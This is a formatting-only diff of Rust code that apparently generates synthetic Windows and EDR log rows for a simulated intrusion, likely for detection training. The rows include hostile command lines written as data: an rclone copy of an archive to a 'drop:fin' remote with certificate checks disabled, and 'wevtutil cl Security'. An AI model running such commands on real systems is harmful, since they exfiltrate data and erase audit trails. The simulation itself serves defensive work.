@@ -35,10 +35,7 @@ pub(super) fn logon_with_service_account(sheets: &mut Sheets, company: &Company,
             ("Computer", (&server.name).into()),
             ("Channel", "Security".into()),
             ("EventID", 4624.into()),
-            (
-                "Activity",
-                "4624 - An account was successfully logged on.".into(),
-            ),
+            ("Activity", "4624 - An account was successfully logged on.".into()),
             ("TargetUserName", SERVICE_ACCOUNT.into()),
             ("TargetDomainName", NT_DOMAIN.into()),
             ("Account", format!(r"{NT_DOMAIN}\{SERVICE_ACCOUNT}").into()),
@@ -56,7 +53,10 @@ pub(super) fn logon_with_service_account(sheets: &mut Sheets, company: &Company,
             ("Computer", (&server.name).into()),
             ("Channel", "Security".into()),
             ("EventID", 5145.into()),
-            ("Activity", "5145 - A network share object was checked to see whether client can be granted desired access.".into()),
+            (
+                "Activity",
+                "5145 - A network share object was checked to see whether client can be granted desired access.".into(),
+            ),
             ("SubjectUserName", SERVICE_ACCOUNT.into()),
             ("SubjectDomainName", NT_DOMAIN.into()),
             ("ShareName", r"\\*\ADMIN$".into()),
@@ -90,7 +90,10 @@ pub(super) fn remote_service(sheets: &mut Sheets, company: &Company, at: i64) {
             ("FolderPath", r"C:\Windows\rsvc4471.exe".into()),
             ("InitiatingProcessFileName", "services.exe".into()),
             ("InitiatingProcessAccountName", SERVICE_ACCOUNT.into()),
-            ("AdditionalFields", r#"{"ServiceName":"rsvc4471","ServiceAccount":"LocalSystem","ServiceStartType":"demand start"}"#.into()),
+            (
+                "AdditionalFields",
+                r#"{"ServiceName":"rsvc4471","ServiceAccount":"LocalSystem","ServiceStartType":"demand start"}"#.into(),
+            ),
         ],
     );
 }
@@ -100,12 +103,7 @@ pub(super) fn shell_on_file_server(sheets: &mut Sheets, company: &Company, at: i
         sheets,
         company,
         at,
-        (
-            "rsvc4471.exe",
-            r"C:\Windows",
-            r"C:\Windows\rsvc4471.exe",
-            5_508,
-        ),
+        ("rsvc4471.exe", r"C:\Windows", r"C:\Windows\rsvc4471.exe", 5_508),
         ("services.exe", r"C:\Windows\System32", 724),
     );
     process(
@@ -182,7 +180,11 @@ pub(super) fn exfiltration(sheets: &mut Sheets, company: &Company, at: i64) {
             ("LocalIP", (&server.ip).into()),
             ("InitiatingProcessFileName", "rclone.exe".into()),
             ("InitiatingProcessId", 6_404.into()),
-            ("InitiatingProcessCommandLine", r"C:\Windows\Temp\rclone.exe copy C:\Windows\Temp\fin.7z drop:fin --transfers 8 --no-check-certificate".into()),
+            (
+                "InitiatingProcessCommandLine",
+                r"C:\Windows\Temp\rclone.exe copy C:\Windows\Temp\fin.7z drop:fin --transfers 8 --no-check-certificate"
+                    .into(),
+            ),
             ("InitiatingProcessAccountName", "system".into()),
         ],
     );
@@ -212,12 +214,7 @@ pub(super) fn log_cleared(sheets: &mut Sheets, company: &Company, at: i64) {
         sheets,
         company,
         at,
-        (
-            "wevtutil.exe",
-            r"C:\Windows\System32",
-            "wevtutil cl Security",
-            6_720,
-        ),
+        ("wevtutil.exe", r"C:\Windows\System32", "wevtutil cl Security", 6_720),
         ("cmd.exe", r"C:\Windows\System32", 5_612),
     );
     sheets.row(
